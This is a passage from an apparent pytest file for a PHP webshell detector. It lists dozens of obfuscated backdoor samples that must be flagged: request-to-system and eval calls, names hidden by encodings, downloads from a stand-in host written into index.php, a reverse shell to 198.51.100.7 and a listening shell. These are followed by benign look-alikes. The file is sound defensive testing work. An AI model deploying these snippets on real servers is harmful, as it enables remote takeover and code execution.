        " fwrite($fp, $data); fclose($fp); } } function get($u) { return file_get_contents($u); }"
        " keep('cache/' . 'x.php', get('http://203.0.113.5/p?h=' . $_SERVER['REQUEST_URI']));",
        WRITE,
    ),
    (
        "helper writing through an SplFileObject it opens on the path it is handed",
        "<?php function w($p, $d) { $f = new SplFileObject($p, 'w'); $f->fwrite($d); }"
        " w('index.php', file_get_contents('http://203.0.113.5/t.txt')); w($_GET['n'], $_POST['c']);",
        WRITE,
    ),
    (
        "helper opening the path it is handed, called with a request-chosen path",
        "<?php function keep($path, $data) { $h = fopen($path, 'w'); fputs($h, $data); fclose($h); }"
        " keep($_POST['n'], $_POST['d']);",
        WRITE,
    ),
    (
        "method writing through a handle, handed a script's name and a fetched page by another method",
        "<?php class G { function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
        " return curl_exec($c); } function save($p, $d) { $h = fopen($p, 'a'); fwrite($h, $d); fclose($h); }"
        " function go() { $this->save('wp-cache.php', $this->get('http://203.0.113.5/t.txt')); } } (new G())->go();",
        WRITE,
    ),
    (
        "table decoded element by element into a new array by foreach",
        "<?php $raw = array('ZXhlYw==', 'c3lzdGVt'); foreach ($raw as $r) { $fn[] = base64_decode($r); }"
        " $fn[1]($_GET['q']);",
        CMD,
    ),
    (
        "a literal head of a function name the request finishes",
        "<?php $run = 'syst' . $_COOKIE['t']; $run($_COOKIE['c']);",
        DYN,
    ),
    (
        "a name read byte by byte past the end of its constant (a silenced empty read)",
        "<?php $k = 'c3lz' . 'tem'; $n = base64_decode($k[0] . $k[1] . $k[2] . $k[3]) . $k[4] . $k[5] . $k[6]"
        " . @$k[7] . @$k[9]; $n($_GET['q']);",
        CMD,
    ),
    (
        "name decoded by a helper whose loop appends the long way with an affine byte map",
        "<?php function unmap($w) { $o = ''; for ($j = 0; $j < strlen($w); $j++) {"
        " $o = $o . chr((((ord(substr($w, $j, 1)) - 97) * 3 + 5) % 26) + 97); } return $o; }"
        " call_user_func(unmap('npnwrl'), $_REQUEST['v']);",
        CMD,
    ),
    (
        "request text spliced into a serialized object a destructor runs",
        "<?php class Job { public $arg = ''; public $fn = 'system'; function __destruct() {"
        " call_user_func($this->fn, $this->arg); } } $v = $_GET['v'];"
        " unserialize('O:3:\"Job\":1:{s:3:\"arg\";s:' . strlen($v) . ':\"' . $v . '\";}');",
        CMD,
    ),
    (
        "a bare-name call of a constant that names a command function",
        "<?php define('RUN_IT', 'pa' . 'ssthru'); if (!empty($_POST['t'])) { RUN_IT($_POST['t']); }",
        CMD,
    ),
    (
        "an XML character-data closure handed the parsed request body",
        "<?php $x = xml_parser_create(); xml_set_character_data_handler($x, function ($p, $t) { system($t); });"
        " xml_parse($x, '<r>' . $_POST['d'] . '</r>', true);",
        CMD,
    ),
    (
        "an XML handler named as a function of the file",
        "<?php function pi_data($p, $target, $data) { eval($data); } $x = xml_parser_create();"
        " xml_set_processing_instruction_handler($x, 'pi_data'); xml_parse($x, base64_decode($_COOKIE['k']));",
        CODE,
    ),
    (
        "XML element handlers named as methods after xml_set_object",
        "<?php class F { public $b = ''; function o($p, $n, $a) { } function t($p, $s) { $this->b .= $s; }"
        " function c($p, $n) { passthru($this->b); } function go($d) { $x = xml_parser_create();"
        " xml_set_object($x, $this); xml_set_element_handler($x, 'o', 'c'); xml_set_character_data_handler($x, 't');"
        " xml_parse($x, $d); } } (new F())->go(file_get_contents('php://input'));",
        CMD,
    ),
    (
        "a function name split between a constant array's key and value, joined by the walk callback",
        "<?php function j($v, $k) { $f = $k . $v; $f($_POST['q']); } $a = array('sys' => 'tem'); array_walk($a, 'j');",
        CMD,
    ),
    (
        "a function name split between two constant arrays mapped together",
        "<?php function j($v, $k) { $f = $k . $v; $f($_POST['q']); } array_map('j', array('ert'), array('ass'));",
        CODE,
    ),
    (
        "a first-class callable of a command function called later",
        "<?php $run = shell_exec(...); $x = $_GET['c']; echo $run($x);",
        CMD,
    ),
    (
        "a first-class callable of a method of the file",
        "<?php class R { static function go($c) { system($c); } } $f = R::go(...); $f($_POST['c']);",
        CMD,
    ),
    (
        "input carried through an SPL queue",
        "<?php $q = new SplQueue(); $q->enqueue($_GET['c']); passthru($q->dequeue());",
        CMD,
    ),
    (
        "input carried through an SPL stack walked by foreach",
        "<?php $s = new SplStack(); $s->push($_POST['c']); foreach ($s as $v) { eval($v); }",
        CODE,
    ),
    (
        "a property name from the request read through __get",
        "<?php class M { function __get($n) { return shell_exec($n); } } $m = new M; echo $m->{$_GET['c']};",
        CMD,
    ),
    (
        "a method name from the request handled by __call",
        "<?php class N { function __call($n, $a) { return system($n); } } $o = new N; $o->{$_GET['c']}();",
        CMD,
    ),
    (
        "code carried hex-encoded as the session cookie's value",
        "<?php @eval(hex2bin(session_id(session_start())));",
        CODE,
    ),
    (
        "the request body copied into a script",
        "<?php copy('php://input', __DIR__ . '/cache.php');",
        WRITE,
    ),
    (
        "input printed into a script through fprintf",
        "<?php $h = fopen('conf.php', 'a'); fprintf($h, '%s', $_POST['c']);",
        WRITE,
    ),
    (
        "input written as a CSV field of a script",
        "<?php $h = fopen('x.phtml', 'w'); fputcsv($h, array($_POST['c']));",
        WRITE,
    ),
    (
        "input written to a temporary file that is then given a script's name",
        "<?php $t = tempnam('.', 'x'); file_put_contents($t, $_POST['c']); rename($t, $t . '.php');",
        WRITE,
    ),
    (
        "a command function registered as the autoloader, a class name from the request looked up",
        "<?php spl_autoload_register('system'); class_exists($_GET['c']);",
        CMD,
    ),
    (
        "an autoloader closure running the class name it is given, for new $x",
        "<?php spl_autoload_register(function ($n) { passthru($n); }); $x = $_POST['c']; new $x();",
        CMD,
    ),
    (
        "the request's text thrown in an exception and run by the exception handler",
        "<?php set_exception_handler(function ($e) { system($e->getMessage()); }); throw new Exception($_GET['c']);",
        CMD,
    ),
    (
        "the request's text thrown and run in the catch clause",
        "<?php class E extends Exception {} try { throw new E($_GET['c']); } catch (E $e) { eval($e->getMessage()); }",
        CODE,
    ),
    (
        "the request's text raised with trigger_error and run by the error handler",
        "<?php set_error_handler(function ($no, $str) { system($str); }); trigger_error($_GET['c']);",
        CMD,
    ),
    (
        "a command function as the callback of a CallbackFilterIterator",
        "<?php $a = new ArrayIterator([$_POST['c']]); $f = new CallbackFilterIterator($a, 'system'); foreach ($f as $x) {}",
        CMD,
    ),
    (
        "libxml's entity loader handed the posted document's entity addresses",
        "<?php libxml_set_external_entity_loader(function ($p, $s, $c) { return shell_exec($s); });"
        " $d = new DOMDocument(); $d->loadXML($_POST['x'], LIBXML_NOENT);",
        CMD,
    ),
    (
        "a closure holding a variable by reference, the variable set from the request afterwards",
        "<?php $c = ''; $f = function () use (&$c) { system($c); }; $c = $_GET['x']; $f();",
        CMD,
    ),
    (
        "an array of request values cast to an object and read as a property",
        "<?php $o = (object) ['n' => 'x', 'c' => $_GET['c']]; system($o->c);",
        CMD,
    ),
    (
        "input checked to be hex digits, then decoded and run",
        "<?php $x = $_POST['x']; if (!ctype_xdigit($x)) { exit; } $c = hex2bin($x); echo shell_exec($c);",
        CMD,
    ),
    (
        "input checked against Base64's alphabet, then decoded and evaluated",
        "<?php $x = $_POST['x']; if (preg_match('/^[A-Za-z0-9+\\/=]+$/', $x)) { eval(base64_decode($x)); }",
        CODE,
    ),
    (
        "code read from a connection to a fixed host",
        "<?php $c = stream_socket_client('tcp://198.51.100.7:4444'); eval(stream_get_contents($c));",
        CODE,
    ),
    (
        "commands read from a socket_create()d socket once connected",
        "<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, '198.51.100.7', 9001);"
        " while ($c = socket_read($s, 2048)) { socket_write($s, shell_exec($c)); }",
        CMD,
    ),
    (
        "commands from a client of the script's listening socket",
        "<?php $srv = stream_socket_server('tcp://0.0.0.0:31337'); $k = stream_socket_accept($srv, -1);"
        " socket_recv($k, $buf, 1024, 0); system($buf);",
        CMD,
    ),
    (
        "a request script written to a shell's standard input (proc_open pipes)",
        "<?php $p = proc_open('/bin/sh', [['pipe', 'r'], ['pipe', 'w']], $io); fwrite($io[0], $_POST['s']);",
        CMD,
    ),
    (
        "a request script written to a shell opened with popen for writing",
        "<?php $h = popen('bash -s', 'w'); fputs($h, $_GET['s']); pclose($h);",
        CMD,
    ),
    (
        "an XML handler the request names",
        "<?php $x = xml_parser_create(); xml_set_default_handler($x, $_GET['h']); xml_parse($x, '<a>' . $_GET['d'] . '</a>');",
        DYN,
    ),
    (
        "input written through a reference's other name",
        "<?php $a = 'x'; $b = &$a; $b = $_COOKIE['k']; shell_exec($a);",
        CMD,
    ),
    (
        "a reference to an array element written through",
        "<?php $cfg = ['cmd' => null]; $r = &$cfg['cmd']; $r = $_POST['z']; exec($cfg['cmd']);",
        CMD,
    ),
    (
        "an array element holding a reference to a variable written later",
        "<?php $t = []; $t[0] = &$c; $c = $_POST['x']; system($t[0]);",
        CMD,
    ),
    (
        "a function's static variable keeping input between two calls",
        "<?php function keep($v = null) { static $s; if ($v !== null) { $s = $v; return; } return $s; }"
        " keep($_REQUEST['c']); passthru(keep());",
        CMD,
    ),
    (
        "input left in a by-reference parameter",
        "<?php function fill(&$out) { $out = $_SERVER['HTTP_X_CMD']; } fill($c); system($c);",
        CMD,
    ),
    (
        "a by-reference parameter given the caller's input",
        "<?php function take($from, &$to) { $to = $from['t']; } take($_POST, $t); eval($t);",
        CODE,
    ),
    (
        "a function name kept as a backed enum case's value",
        "<?php enum R: string { case Go = 'system'; } (R::Go->value)($_GET['x']);",
        CMD,
    ),
    (
        "a function name joined from enum cases inside the enum",
        "<?php enum E: string { case A = 'pass'; case B = 'thru';"
        " static function r($c) { $f = self::A->value . static::B->value; $f($c); } } E::r($_POST['c']);",
        CMD,
    ),
    (
        "a command function exposed by a SOAP server",
        "<?php $s = new SoapServer(null, ['uri' => 'urn:x']); $s->addFunction(['system']); $s->handle();",
        CMD,
    ),
    (
        "a SOAP service object whose method evaluates its argument",
        "<?php class A { function run($c) { return eval($c); } } $s = new SoapServer(null, []);"
        " $s->setObject(new A()); $s->handle();",
        CODE,
    ),
    (
        "a Yar RPC server exposing an object whose method runs its argument",
        "<?php class Api { public function run($c) { return shell_exec($c); } } $s = new Yar_Server(new Api()); $s->handle();",
        CMD,
    ),
    (
        "an XML-RPC method registered by name",
        "<?php function r($m, $p) { passthru($p[0]); } $x = xmlrpc_server_create();"
        " xmlrpc_server_register_method($x, 'r', 'r');",
        CMD,
    ),
    (
        "input printed into the output buffer and read back out of it",
        "<?php ob_start(); echo $_GET['c']; $c = ob_get_clean(); system($c);",
        CMD,
    ),
    (
        "code written to a temporary file and included by its uri",
        "<?php $h = tmpfile(); fwrite($h, $_POST['c']); $m = stream_get_meta_data($h); include $m['uri'];",
        CODE,
    ),
    (
        "array_reduce hands each element to the callback's second parameter",
        "<?php array_reduce($_POST['a'], function ($carry, $x) { return $carry . shell_exec($x); }, '');",
        CMD,
    ),
    (
        "an object's property read back through a cast to an array",
        "<?php $o = new stdClass; $o->run = $_POST['p']; $a = (array) $o; assert($a['run']);",
        CODE,
    ),
    (
        "an object's properties walked through get_object_vars",
        "<?php class C { public $a; } $o = new C; $o->a = $_GET['x']; foreach (get_object_vars($o) as $v) { system($v); }",
        CMD,
    ),
    (
        "a copy of $GLOBALS read by the request array's name",
        "<?php $g = $GLOBALS; $x = $g['_POST']['y']; eval($x);",
        CODE,
    ),
    (
        "a function name chosen by a match expression",
        "<?php $op = match($_GET['m'] ?? '') { 'a' => 'strlen', default => 'passthru' }; $op($_POST['c']);",
        CMD,
    ),
    (
        "a function name from either branch of a condition, one of them decoded",
        "<?php $f = isset($_GET['w']) ? base64_decode('c3lzdGVt') : str_rot13('cnffgueh'); $f($_POST['c']);",
        CMD,
    ),
    (
        "an unknown element of a table of function names",
        "<?php $t = ['system', 'passthru']; $t[array_rand($t)]($_REQUEST['q']);",
        CMD,
    ),
    (
        'names kept in ${"GLOBALS"} (a variable named by a literal is $GLOBALS)',
        '<?php ${"GLOBALS"}["k"] = "cmd"; ${${"GLOBALS"}["k"]} = $_POST["c"]; system(${${"GLOBALS"}["k"]});',
        CMD,
    ),
    (
        "a request body written to a request path through ${'GLOBALS'} aliases",
        "<?php ${'GLOBALS'}['p'] = 'path'; ${${'GLOBALS'}['p']} = $_GET['f']; "
        "file_put_contents(${${'GLOBALS'}['p']}, $_POST['b']);",
        WRITE,
    ),
    (
        "a name spelt from a constant array by a counted loop, called with a parameter",
        "<?php function r($v) { $p = array('sy', 'st', 'em'); $f = ''; for ($i = 0; $i < count($p); $i++) "
        "{ $f .= $p[$i]; } $f($v); } r($_POST['v']);",
        CMD,
    ),
    (
        "a loop appending the string to itself and a letter, the tail cut by a negative substr",
        "<?php $l = array('a', 's', 's', 'e', 'r', 't'); $w = ''; for ($j = 0; $j <= 5; $j++) { $w .= $w . $l[$j]; }"
        " $w = substr($w, -6); $w($_GET['z']);",
        CODE,
    ),
    (
        "a superglobal's name base64-decoded from a literal padded with '_' and '-' (PHP skips them)",
        "<?php $g = base64_decode('X1B__PU1-Q=__'); eval(${$g}['a']);",
        CODE,
    ),
    # code kept past the picture in a file named like an image, read back and run
    (
        "image tail evaluated",
        "<?php eval(trim(substr(file_get_contents(__DIR__ . '/logo.gif'), 2048)));",
        CODE,
    ),
    (
        "image read through a handle, the part after an open tag evaluated",
        "<?php $p = 'uploads/avatar.png'; $h = fopen($p, 'rb'); $d = fread($h, 8192);"
        " assert(substr($d, strpos($d, '<?php') + 5));",
        CODE,
    ),
    ("last line of an icon evaluated", "<?php $l = file('favicon.ico'); eval(end($l));", CODE),
    (
        "request written into an image through a handle, then included (the write is still followed)",
        "<?php $h = fopen('up/a.png', 'wb'); fwrite($h, $_POST['d']); fclose($h); include 'up/a.png';",
        CODE,
    ),
    (
        "image bytes written into a script",
        "<?php file_put_contents('cache/x.php', gzinflate(substr(file_get_contents('img/bg.jpg'), -900)));",
        WRITE,
    ),
    # a double-quoted string of variables called as the function
    ("interpolated callee", '<?php $s = "sys"; $t = "tem"; "{$s}{$t}"($_GET["c"]);', CMD),
    # function names kept in data written as JSON, PHP's serialized form or an array's keys
    ("name in a JSON object", "<?php $o = json_decode('{\"f\":\"system\"}'); ($o->f)($_GET['c']);", CMD),
    ("name in a JSON array", "<?php $a = json_decode('[\"x\",\"assert\"]', true); $a[1]($_POST['c']);", CODE),
    (
        "name in a serialized array",
        "<?php $a = unserialize('a:2:{i:0;s:3:\"abc\";s:1:\"k\";s:6:\"system\";}'); $a['k']($_GET['c']);",
        CMD,
    ),
    ("name as an array key", "<?php $a = array_keys(['system' => 1]); $a[0]($_GET['c']);", CMD),
    # names reshaped by string functions: a separator put between the letters, a prefix as the pad
    (
        "chunk_split name",
        "<?php $f = str_replace('-', '', chunk_split('passthru', 1, '-')); $f($_SERVER['HTTP_X']);",
        CMD,
    ),
    ("str_pad name", "<?php $f = str_pad('exec', 10, 'shell_', STR_PAD_LEFT); $f($_COOKIE['c']);", CMD),
    # an if branch runs in order: a variable reused there holds the value it was given last
    (
        "path variable reused in a branch",
        "<?php $p = 'log.txt'; $d = 'x'; if (!is_file('a')) { $p = 'inc/a.php';"
        " $d = $_POST['d']; $h = fopen($p, 'w'); fwrite($h, $d); }",
        WRITE,
    ),
    (
        "remote body planted through reused variables",
        "<?php $t = 'a.txt'; if (!is_file('inc/x.php')) { $b = file_get_contents('http://e.invalid/x.txt');"
        " $t = 'inc/x.php'; $h = @fopen($t, 'w'); @fwrite($h, $b); }",
        WRITE,
    ),
    ("name flipped to a key", "<?php $f = key(array_flip(['passthru'])); $f($_GET['c']);", CMD),
    ("last key", "<?php $f = array_key_last(['strlen' => 0, 'exec' => 1]); $f($_GET['c']);", CMD),
    (
        "closure bound with Closure::bind reads the request through $this",
        "<?php class H { public $c; } $h = new H; $h->c = $_POST['c'];"
        " $b = Closure::bind(function () { return $this->c; }, $h, H::class); assert($b());",
        CODE,
    ),
    # (late-night probes) a backed enum's value, an unserialized object's own callable, arguments
    # read through func_get_arg(), a written file moved before it is included
    (
        "backed enum case chosen by the request, its value called",
        "<?php enum A: string { case R = 'system'; case S = 'passthru'; }"
        " $a = A::from($_GET['a']); ($a->value)($_GET['c']);",
        CMD,
    ),
    (
        "unserialized object whose method calls its own callable property (class default trim)",
        "<?php class C { public $f = 'trim'; public $a = ''; function go() { return call_user_func($this->f, $this->a); } }"
        " $o = unserialize($_COOKIE['o']); echo $o->go();",
        DYN,
    ),
    (
        "a helper without parameters hands back its argument through func_get_arg",
        "<?php function pick() { return func_get_arg(0); } pick('sys' . 'tem')($_GET['c']);",
        CMD,
    ),
    (
        "request text written to a temporary file, renamed, then included",
        "<?php file_put_contents('/tmp/a', $_POST['x']); rename('/tmp/a', 'cache/p.dat'); include 'cache/p.dat';",
        CODE,
    ),
]


@pytest.mark.parametrize(("name", "code", "expected"), MALICIOUS, ids=[m[0] for m in MALICIOUS])
def test_flow_is_found(name: str, code: str, expected: str) -> None:
    reasons = analyse(code)
    assert expected in ids(reasons), [(r.id, r.description) for r in reasons]
    best = next(r for r in reasons if r.id == expected)
    assert best.layer is Layer.SEMANTIC
    assert best.score >= 60
    assert best.line is not None and best.description


BENIGN = [
    (
        "a controller: request values bound into a query, checked against a list, escaped; a fixed command",
        "<?php class S { function index(Request $request) { $q = $request->input('q'); $s = in_array($request->query('s'),"
        " ['a', 'b'], true) ? $request->query('s') : 'a'; $rows = DB::table('t')->where('x', $q)->orderBy($s)->get();"
        " $load = shell_exec('uptime'); echo e($q), $load; } }",
    ),
    (
        "an outgoing request built by the code: its body is the code's own data",
        "<?php $request = new Request('POST', 'https://api.example.com/'); $b = $request->getBody(); eval('1;');"
        " system('date');",
    ),
    (
        "an upload and the request body spooled to files that are only read as data",
        "<?php $t = tempnam('/tmp', 'x'); move_uploaded_file($_FILES['f']['tmp_name'], $t); $rows = file($t);"
        " $b = tempnam('/tmp', 'y'); copy('php://input', $b); $d = json_decode(file_get_contents($b), true);"
        " include 'view.php'; echo count($rows), htmlspecialchars($d['t']);",
    ),
    (
        "an escaping helper whose filter is a parameter default, and an interface naming a string function",
        "<?php interface E { const H = 'htmlspecialchars'; } class F implements E { function s($v, $t = 'trim')"
        " { $f = static::H; return $f($t($v)); } } echo (new F)->s($_GET['q']);",
    ),
    (
        "rows destructured by key: the request value lands in a slot that is only printed",
        "<?php ['name' => $n, 'fmt' => $f] = ['fmt' => 'strtoupper', 'name' => $_GET['n']];"
        " list(, $day) = explode('-', date('Y-d')); echo htmlspecialchars($f($n)) . $day;",
    ),
    (
        "a licence checksum: the typed key XORed with a pad built around the product name, printed as hex",
        "<?php $pad = md5($product, true) ^ ($product . 'salt'); $x = ($_POST['key'] ^ $pad);"
        " echo bin2hex($x);",
    ),
    (
        "send-to-friend page: the site's own text leads the subject and the body",
        "<?php mail($_POST['friend'], 'Your friend ' . $_POST['name'] . ' recommends this page',"
        " 'Hello, ' . $_POST['name'] . ' thought you would like ' . $url, 'From: site@example.org');",
    ),
    (
        "a number validated by filter_var",
        "<?php $n = filter_var($_GET['n'], FILTER_VALIDATE_INT); system('seq ' . $n);",
    ),
    (
        "the page's own statements on a connection made with the account typed in the form",
        "<?php $l = mysqli_connect('localhost', $_POST['u'], $_POST['p'], 'app');"
        " $r = mysqli_query($l, \"SELECT * FROM notes WHERE owner = '\" . mysqli_real_escape_string($l, $_POST['u']) . \"'\");"
        " mysqli_query($l, 'UPDATE users SET seen = NOW()');",
    ),
    (
        "an installer testing the database account typed in its form with its own statements",
        "<?php $c = 'host=' . $_POST['dbhost'] . ' dbname=' . $_POST['dbname'] . ' user=' . $_POST['dbuser'];"
        " $l = pg_connect($c); if ($l) { pg_query($l, 'CREATE TABLE IF NOT EXISTS app_notes (id serial)');"
        " pg_query($l, \"SELECT 1\"); echo 'ok'; }",
    ),
    (
        "an escaping function's name assembled by a counted loop over a constant array",
        "<?php $p = array('html', 'special', 'chars'); $f = ''; for ($i = 0; $i < count($p); $i++) { $f .= $p[$i]; }"
        " echo $f($_GET['q'] ?? '');",
    ),
    (
        "a loop whose bound the request sets, appending constant pieces (left unknown, not run)",
        "<?php $p = array('a', 'b'); $s = ''; for ($i = 0; $i < $_GET['n']; $i++) { $s .= $p[$i % 2]; }"
        " echo htmlspecialchars($s);",
    ),
    (
        "an extension the configuration names loaded when missing, a definition list printed",
        "<?php $cfg = parse_ini_file(__DIR__ . '/app.ini'); if (!extension_loaded('gd')) { dl($cfg['gd_module']); }"
        " echo '<dl><dt>' . htmlspecialchars($_GET['q'] ?? '') . '</dt></dl>';",
    ),
    (
        "a local template compiled and run as a script, a settings object keeping an API address",
        "<?php class Api { private $e; function __construct($e) { $this->e = $e; } function e() { return $this->e; } }"
        " $a = new Api('https://api.example.com/v2'); $src = file_get_contents(__DIR__ . '/t/footer.tpl');"
        " ob_start(); eval('?>' . $src); echo htmlspecialchars($a->e()) . ob_get_clean();",
    ),
    (
        "a command-line tool including a remote bootstrap",
        "<?php if (PHP_SAPI !== 'cli') { exit(1); } include 'https://203.0.113.5/bootstrap.php';",
    ),
    (
        "remote feed read with comments and printed escaped",
        "<?php $x = file_get_contents/**/('https://203.0.113.5/feed.xml'); echo htmlspecialchars($x);",
    ),
    (
        "helper writing to the path it is handed: a script's name with fixed text, a page under a text name",
        "<?php function put($p, $s) { return file_put_contents($p, $s); }"
        " put('index.php', \"<?php // placeholder\\n\"); put('cache/page.html', file_get_contents('http://203.0.113.5/p'));"
        " function keep($path, $data) { $h = fopen($path, 'wb'); fwrite($h, $data); fclose($h); }"
        " keep('config.php', '<?php return array();'); keep('log/' . date('Ymd') . '.txt', $_POST['m']);",
    ),
    (
        "installer helper saving the posted settings as a .php file, and a download behind an exit header",
        "<?php function fw($f, $data) { $fp = fopen($f, 'wb'); fwrite($fp, $data); fclose($fp); }"
        " fw('conf/users.auth.php', \"# <?php exit()?>\\n\" . join(':', [$_POST['user'], $_POST['mail']]));"
        " fw('cache/feed.php', \"<?php die(); ?>\\n\" . file_get_contents('http://203.0.113.5/feed.json'));",
    ),
    (
        "helper reading the path it is handed, called with a script's name",
        "<?php function show($p) { $h = fopen($p, 'r'); echo htmlspecialchars(fread($h, 8192)); fclose($h); }"
        " show('index.php');",
    ),
    (
        "helper writing to the path it is handed, called with fixed and cleaned paths",
        "<?php function save_as($path, $text) { file_put_contents($path, $text); }"
        " save_as(__DIR__ . '/cache/last.json', json_encode($_POST));"
        " save_as('notes/' . basename($_GET['n']) . '.txt', $_POST['body']);",
    ),
    (
        "colour table decoded into a new array and printed",
        "<?php $hex = array('ff0000', '00ff00'); for ($i = 0; $i < count($hex); $i++) {"
        " $rgb[] = hex2bin($hex[$i]); } echo strlen($rgb[0]) . htmlspecialchars($_GET['n']);",
    ),
    (
        "error_log to the site's log",
        "<?php error_log('login failed for ' . $_POST['user'] . \"\\n\", 3, 'logs/app.log');",
    ),
    ("error_log to the server log", "<?php error_log('bad request: ' . $_GET['q']);"),
    (
        "the application's own phar",
        "<?php class C { public $h; function __destruct() { call_user_func($this->h); } }"
        " require 'phar://' . __DIR__ . '/vendor.phar/autoload.php'; echo htmlspecialchars($_GET['q']);",
    ),
    (
        "encoded input outside a data: URL",
        "<?php header('Location: /s?q=' . urlencode($_GET['q'])); include 'tpl/' . base64_encode($_GET['p']);",
    ),
    (
        "SQL function mapped to a fixed callable",
        "<?php $db = new SQLite3('a.db'); $db->createFunction('low', 'strtolower'); $db->query($_GET['q']);",
    ),
    ("SplFileObject log", "<?php $f = new SplFileObject('logs/app.log', 'a'); $f->fwrite($_POST['msg']);"),
    (
        "curl API client caching JSON",
        "<?php $h = curl_init('https://api.example.com/v1/x'); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
        " file_put_contents('cache/x.json', json_encode(json_decode(curl_exec($h), true)));",
    ),
    (
        "validator defined in the file",
        "<?php function valid_host($h) { return $h[0] !== '-' && preg_match('/^[a-z0-9.-]+$/i', $h); }"
        " $h = $_GET['h']; if (!valid_host($h)) { die('bad'); } system('ping -c 1 ' . $h);",
    ),
    (
        "command-line script",
        "<?php if (php_sapi_name() !== 'cli') { exit(1); } $id = $_SERVER['argv'][1]; passthru('poller ' . $id);",
    ),
    (
        "upload parked in the temporary directory",
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], sys_get_temp_dir() . '/' . $_FILES['f']['name']);",
    ),
    (
        "allow-list failure handled by a helper that exits",
        "<?php function fail($m) { echo json_encode(['error' => $m]); exit; }"
        " $n = $_FILES['f']['name']; $e = strtolower(substr(strrchr($n, '.'), 1));"
        " if (!in_array($e, ['png', 'jpg'])) { fail('type'); }"
        " move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . time() . '.' . $e);",
    ),
    (
        "quoted arguments after a program a constant names",
        "<?php $u = escapeshellarg($_GET['u']); $d = escapeshellarg($_GET['d']);"
        " exec(HESTIA_CMD . 'v-delete-domain ' . $u . ' ' . $d, $out);",
    ),
    (
        "escaped value a helper defined elsewhere turns into a command",
        "<?php $h = escapeshellcmd($_REQUEST['h']); $cmd = build_walk_cmd(find_device($h)); popen($cmd, 'r');",
    ),
    ("quoting helper defined elsewhere", "<?php $d = quoteshellarg($_GET['d']); exec('host ' . $d);"),
    (
        "stripped to letters and digits",
        "<?php $i = preg_replace('/[^a-zA-Z0-9]/', '', $_POST['i']); exec(\"ip link show $i\");",
    ),
    (
        "checked value kept when a branch reassigns it",
        "<?php $s = $_POST['s']; if (!in_array($s, ['up', 'down', 'cycle'])) { exit; }"
        " if ($s === 'cycle') { $s = 'up'; } exec(\"ip link set eth0 $s\");",
    ),
    ("escapeshellarg", "<?php $f = $_GET['f']; system('ls -l ' . escapeshellarg($f));"),
    ("escapeshellcmd", "<?php exec(escapeshellcmd('convert ' . $_POST['file']));"),
    ("intval", "<?php $n = intval($_GET['n']); system(\"seq $n\");"),
    ("int cast", "<?php $n = (int) $_GET['n']; passthru('seq ' . $n);"),
    (
        "strict allow-list exit",
        "<?php $m = $_GET['m']; if (!in_array($m, ['a', 'b'], true)) { die('no'); } exec(\"tool $m\");",
    ),
    (
        "allow-list branch",
        "<?php $m = $_GET['m']; if (in_array($m, ['a', 'b'], true)) { exec(\"tool $m\"); }",
    ),
    (
        "allow-list reset",
        "<?php $m = $_GET['m']; if (!in_array($m, ['a', 'b'], true)) { $m = 'a'; } exec(\"tool $m\");",
    ),
    (
        "strict pattern",
        "<?php $p = $_GET['p']; if (preg_match('/^[a-z0-9_]+$/', $p)) { include \"pages/$p.php\"; }",
    ),
    ("switch on literals", "<?php switch ($_GET['t']) { case 'up': system($_GET['t']); break; }"),
    (
        "match on literals",
        "<?php $c = match ($_GET['c']) { 'u' => 'uptime', default => 'date' }; system($c);",
    ),
    ("equality", "<?php if ($_GET['a'] === 'restart') { system($_GET['a']); }"),
    (
        "hmac verified",
        "<?php if (hash_equals($sig, hash_hmac('sha256', $_POST['p'], $key))) { eval($_POST['p']); }",
    ),
    ("constant command", "<?php system('uptime'); exec('ls -la /tmp', $out);"),
    (
        "Excel macro run through COM",
        "<?php $x = new COM('Excel' . '.Application'); $x->Workbooks->Open($_POST['book']); $x->Run('Totals');",
    ),
    (
        "COM shell with a constant command",
        "<?php $w = new COM('WScript.Shell'); $w->Run('ipconfig /flushdns');",
    ),
    ("affixed callback", "<?php $a = $_GET['action']; call_user_func('action_' . $a);"),
    ("affixed include", "<?php include __DIR__ . '/views/' . $_GET['v'] . '.php';"),
    ("framework lookup", "<?php $cb = get_handler($_POST['id']); call_user_func($cb, $_POST);"),
    ("basename include", "<?php include basename($_GET['f']);"),
    (
        "installer config",
        "<?php file_put_contents('config.php', '<?php return ' . var_export($_POST['cfg'], true) . ';');",
    ),
    (
        "form field assigned before use",
        "<?php $go = 'uptime'; system($go); ?><a href=\"?go=1\">x</a>",
    ),
    (
        "form field of a page that reads its input from superglobals",
        "<?php $q = trim($_GET['q'] ?? ''); echo htmlspecialchars($q); include $view; ?>"
        "<form><input name='view'></form>",
    ),
    (
        "upload extension allow-listed",
        "<?php $e = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));"
        " if (!in_array($e, ['png', 'jpg'], true)) { exit; }"
        " move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . bin2hex(random_bytes(8)) . '.' . $e);",
    ),
    (
        "upload name checked by the application",
        "<?php $n = $_FILES['f']['name']; if (!is_allowed_upload($n)) { throw new Exception('no'); }"
        " move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . basename($n));",
    ),
    (
        "hash compare",
        "<?php $t = $_COOKIE['t']; if (md5($t) === 'd41d8cd98f00b204e9800998ecf8427e') { system($t); }",
    ),
    ("echo input", "<?php echo htmlspecialchars($_GET['q']); print $_GET['x'];"),
    ("log file write", "<?php file_put_contents('app.log', $_SERVER['REQUEST_URI'], FILE_APPEND);"),
    ("preg_replace no e", "<?php echo preg_replace('/\\s+/', ' ', $_GET['q']);"),
    ("user regex wrapped", "<?php echo preg_replace('/' . $_GET['find'] . '/', $_GET['r'], 'text');"),
    (
        "upload into chosen folder, random name",
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], realpath($_POST['d']) . '/' . bin2hex(random_bytes(8)) . '.jpg');",
    ),
    (
        "rename in file manager",
        "<?php rename($_POST['from'], dirname($_POST['from']) . '/' . basename($_POST['to']));",
    ),
    ("new class from input", "<?php $cls = $_GET['c'] . 'Controller'; $o = new $cls();"),
    (
        "a file name cleaned inside the switch case that writes it",
        "<?php $n = $_POST['n']; switch ($_GET['a']) { case 'save':"
        " $n = preg_replace('/[^a-z0-9]/', '', $n) . '.txt';"
        " file_put_contents('/srv/notes/' . $n, $_POST['body']); break; }",
    ),
    (
        "a variable the other branch assigned from input",
